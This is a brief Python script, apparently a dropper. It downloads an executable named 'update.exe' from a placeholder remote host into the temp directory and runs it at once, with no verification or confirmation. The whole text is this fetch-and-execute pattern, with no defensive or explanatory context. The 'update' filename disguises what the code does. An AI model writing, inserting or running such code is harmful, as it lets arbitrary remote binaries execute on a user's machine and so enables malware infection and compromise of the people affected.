import os
import subprocess
import tempfile
import urllib.request

target = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("https://example.invalid/update.exe", target)
subprocess.Popen([target], shell=False)
